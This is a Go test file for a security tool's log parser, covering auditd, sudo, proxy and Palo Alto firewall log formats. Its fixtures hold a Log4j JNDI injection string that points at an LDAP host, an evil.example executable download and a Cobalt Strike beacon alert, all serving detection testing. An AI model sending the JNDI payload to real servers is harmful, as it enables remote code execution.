package sensor_test

import (
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/casemate-ai/casemate"
	"github.com/casemate-ai/casemate/internal/security/evidence"
)

// checkText is check for lines of text, read from end to end: each sample is
// one record, and its Format in want is that of the text.
func checkText(t *testing.T, samples []sample) {
	t.Helper()
	for _, s := range samples {
		t.Run(s.name, func(t *testing.T) {
			var alerts []*casemate.Alert
			sum, err := evidence.ReadFrom(t.Context(), strings.NewReader(s.text+"\n"), "f", evidence.Options{Reference: reference}, func(a *casemate.Alert) error {
				alerts = append(alerts, a)
				return nil
			})
			if err != nil || sum.FaultCount > 0 || len(alerts) != 1 {
				t.Fatalf("%d records, faults %v, %v", len(alerts), sum.Faults, err)
			}
			slices.Sort(s.want.Entities)
			got := summarise(alerts[0], s.want.Event)
			slices.Sort(got.Entities)
			if diff := cmp.Diff(s.want, got); diff != "" {
				t.Errorf("(-want +got):\n%s", diff)
			}
		})
	}
}

func TestAuditAccounts(t *testing.T) {
	const head = `node=jump01 type=SYSCALL msg=audit(1723037412.500:93): arch=c000003e syscall=59 success=yes exit=0 ppid=7 pid=8 `
	const tail = ` tty=pts3 ses=9 comm="find" exe="/usr/bin/find" key="exec"`
	const execve = "\n" + `node=jump01 type=EXECVE msg=audit(1723037412.500:93): argc=2 a0="find" a1="/var/log"`
	find := casemate.Process{Image: "/usr/bin/find", CommandLine: "find /var/log", PID: "8", ParentPID: "7"}
	want := func(user string, entities ...string) gist {
		return gist{Format: "auditd", Kind: "event", Name: "EXECVE", Severity: "unknown", Time: "2024-08-07T13:30:12.5Z", Host: "jump01", User: user, Action: "yes", Process: find,
			Log: casemate.Logsource{Product: "linux", Category: "process_creation", Service: "auditd"}, Entities: append(entities, "host jump01", "process /usr/bin/find"), Event: map[string]string{"User": user}}
	}
	checkText(t, []sample{
		{"names behind the record", head + `auid=1188 uid=0 gid=0 euid=0` + tail + "\x1d" + `ARCH=x86_64 SYSCALL=execve AUID="s.okafor" UID="root" GID="root" EUID="root"` + execve, want("s.okafor", "actor user s.okafor")},
		{"a service", head + `auid=4294967295 uid=33 gid=33 euid=33` + tail + "\x1d" + `ARCH=x86_64 SYSCALL=execve AUID="unset" UID="www-data" GID="www-data"` + execve, want("www-data", "actor user www-data")},
		{"numbers alone", head + `auid=1188 uid=0 gid=0 euid=0` + tail + execve, want("1188", "actor user 1188")},
		{"numbers of a service", head + `auid=4294967295 uid=33 gid=33 euid=33` + tail + execve, want("33", "actor user 33")},
		{"become root", `node=jump01 type=USER_START msg=audit(1723037412.500:94): pid=9 uid=1188 auid=1188 ses=9 msg='op=PAM:session_open acct="root" exe="/usr/bin/su" res=success'` + "\x1d" + `UID="s.okafor" AUID="s.okafor"`,
			gist{Format: "auditd", Kind: "event", Name: "USER_START", Severity: "unknown", Time: "2024-08-07T13:30:12.5Z", Host: "jump01", User: "s.okafor", Action: "success", Process: casemate.Process{Image: "/usr/bin/su", PID: "9"},
				Log: casemate.Logsource{Product: "linux", Service: "auditd"}, Entities: []string{"actor user s.okafor", "target user root", "host jump01", "process /usr/bin/su"}}},
		{"a login that failed", `node=jump01 type=USER_LOGIN msg=audit(1723037412.500:95): pid=9 uid=0 auid=4294967295 ses=4294967295 msg='op=login acct="root" exe="/usr/sbin/sshd" addr=198.51.100.4 res=failed'` + "\x1d" + `UID="root" AUID="unset"`,
			gist{Format: "auditd", Kind: "event", Name: "USER_LOGIN", Severity: "unknown", Time: "2024-08-07T13:30:12.5Z", Host: "jump01", User: "root", Action: "failed", Process: casemate.Process{Image: "/usr/sbin/sshd", PID: "9"},
				Log: casemate.Logsource{Product: "linux", Service: "auditd"}, Entities: []string{"actor user root", "host jump01", "process /usr/sbin/sshd", "source address 198.51.100.4"}}},
	})
}

func TestSudoItself(t *testing.T) {
	want := gist{Format: "syslog-rfc3164", Kind: "event", Name: "sudo -l (list of allowed commands)", Severity: "unknown", Time: "2024-08-07T13:55:10Z", Host: "jump01", User: "s.okafor",
		Log: casemate.Logsource{Product: "linux", Service: "sudo"}, Entities: []string{"actor user s.okafor", "target user root", "host jump01"}}
	denied := want
	denied.Name, denied.Action = "sudo-denied: sudo -l (list of allowed commands)", "command not allowed"
	run := want
	run.Name, run.Process, run.Log.Category = "sudo", casemate.Process{Image: "/usr/bin/list", CommandLine: "/usr/bin/list"}, "process_creation"
	run.Entities = append(slices.Clone(want.Entities), "process /usr/bin/list")
	checkText(t, []sample{
		{"list", "Aug  7 13:55:10 jump01 sudo: s.okafor : TTY=pts/3 ; PWD=/home/s.okafor ; USER=root ; COMMAND=list", want},
		{"denied", "Aug  7 13:55:10 jump01 sudo: s.okafor : command not allowed ; TTY=pts/3 ; PWD=/home/s.okafor ; USER=root ; COMMAND=list /bin/sh", denied},
		{"a program of that name", "Aug  7 13:55:10 jump01 sudo: s.okafor : TTY=pts/3 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/list", run},
	})
}

func TestProxyLines(t *testing.T) {
	const zscaler = "<13>Aug  7 13:30:12 proxy01 LEEF:1.0|Zscaler|NSS|6.1|%s|cat=%s\tdevTime=Aug 07 2024 13:30:12 GMT\tsrc=10.20.10.114\tdst=198.51.100.77\tusrName=m.lindqvist@corp.example\turl=static.freight.example/assets/ui.png?v=2\t" +
		"useragent=Mozilla/5.0 WindowsPowerShell/5.1\thostname=static.freight.example\tthreatname=None\treqmethod=GET\trespcode=200"
	want := gist{Format: "leef", Kind: "event", Name: "Allowed", Rule: "Allowed", Severity: "unknown", Time: "2024-08-07T13:30:12Z", Host: "10.20.10.114", User: "m.lindqvist@corp.example", Action: "Allowed",
		Log:      casemate.Logsource{Category: "proxy"},
		Entities: []string{"source address 10.20.10.114", "destination address 198.51.100.77", "observer host proxy01", "actor user m.lindqvist@corp.example", "actor user m.lindqvist", "destination url static.freight.example/assets/ui.png?v=2"},
		Event: map[string]string{"c-uri": "static.freight.example/assets/ui.png?v=2", "cs-method": "GET", "c-useragent": "Mozilla/5.0 WindowsPowerShell/5.1", "sc-status": "200", "cs-host": "static.freight.example",
			"c-uri-extension": "png", "c-uri-query": "v=2", "cs-uri-stem": "/assets/ui.png", "c-ip": "10.20.10.114"}}
	blocked := want
	blocked.Name, blocked.Rule, blocked.Action = "Blocked", "Blocked", "Blocked"
	checkText(t, []sample{
		{"allowed", strings.ReplaceAll(zscaler, "%s", "Allowed"), want},
		{"blocked", strings.ReplaceAll(zscaler, "%s", "Blocked"), blocked},
		{"web gateway in cef", "CEF:0|Acme|Web Gateway|1.0|200|Request|2|src=10.0.0.1 dst=203.0.113.2 request=https://evil.example:8443/a.exe requestMethod=GET requestClientApplication=curl/8 act=Denied",
			gist{Format: "cef", Kind: "event", Name: "Request", Rule: "200", Severity: "unknown", Host: "10.0.0.1", Action: "Denied", Log: casemate.Logsource{Category: "proxy"},
				Entities: []string{"source address 10.0.0.1", "destination address 203.0.113.2", "destination url https://evil.example:8443/a.exe"},
				Event:    map[string]string{"c-uri": "https://evil.example:8443/a.exe", "cs-host": "evil.example", "c-useragent": "curl/8", "cs-method": "GET", "c-uri-extension": "exe"}}},
		{"web filter of a firewall", "CEF:0|Fortinet|Fortigate|v7.2|13056|utm:webfilter ftgd_blk blocked|4|src=10.0.0.1 dst=203.0.113.2 request=https://evil.example/ act=blocked",
			gist{Format: "cef", Kind: "alert", Name: "utm:webfilter ftgd_blk blocked", Rule: "13056", Severity: "medium", Host: "10.0.0.1", Action: "blocked", Log: casemate.Logsource{Category: "proxy"},
				Entities: []string{"source address 10.0.0.1", "destination address 203.0.113.2", "destination url https://evil.example/"}}},
	})
}

func TestPaloAlto(t *testing.T) {
	line := func(subtype, typ, severity, rest string) string {
		return "<132>Aug  7 13:30:12 fw-edge-01 CEF:0|Palo Alto Networks|PAN-OS|10.2.9|" + subtype + "|" + typ + "|" + severity + "|rt=Aug 07 2024 13:30:12 GMT src=10.20.99.5 dst=10.20.40.31 spt=50941 dpt=80 act=alert " + rest
	}
	const threat = `request="10.20.40.31/?q\=${jndi:ldap://10.20.99.5:1389/n}" cs2Label=URL Category cs2=private cat=Apache Log4j Remote Code Execution Vulnerability(91991)`
	want := func(kind, name, rule, severity string) gist {
		return gist{Format: "cef", Kind: kind, Name: name, Rule: rule, Severity: severity, Time: "2024-08-07T13:30:12Z", Host: "10.20.99.5", Action: "alert", Log: casemate.Logsource{Category: "firewall"},
			Entities: []string{"source address 10.20.99.5", "destination address 10.20.40.31", "observer host fw-edge-01"}}
	}
	log4j := want("alert", "Apache Log4j Remote Code Execution Vulnerability", "91991", "critical")
	log4j.Entities = append(log4j.Entities, "destination url 10.20.40.31/?q=${jndi:ldap://10.20.99.5:1389/n}")
	log4j.Event = map[string]string{"dst_port": "80", "src_ip": "10.20.99.5"}
	low := log4j
	low.Kind, low.Severity = "event", "unknown"
	url := want("event", "URL filtering", "9999", "unknown")
	url.Log.Category = "proxy"
	url.Entities = append(url.Entities, "destination url evil.example/a")
	url.Event = map[string]string{"c-uri": "evil.example/a", "cs-host": "evil.example"}
	checkText(t, []sample{
		{"critical", line("vulnerability", "THREAT", "5", threat), log4j},
		{"low", line("vulnerability", "THREAT", "2", threat), low},
		{"high", line("spyware", "THREAT", "4", "cat=Cobalt Strike (beacon)"), want("alert", "Cobalt Strike (beacon)", "spyware", "high")},
		{"medium", line("wildfire", "THREAT", "3", ""), want("alert", "THREAT", "wildfire", "medium")},
		{"traffic is graded without meaning", line("end", "TRAFFIC", "3", ""), want("event", "TRAFFIC", "end", "unknown")},
		{"url log", line("url", "THREAT", "1", `request="evil.example/a" cat=URL filtering(9999)`), url},
		{"others count to ten", strings.Replace(line("1", "Worm", "5", ""), "Palo Alto Networks", "Acme", 1), want("alert", "Worm", "1", "medium")},
	})
}
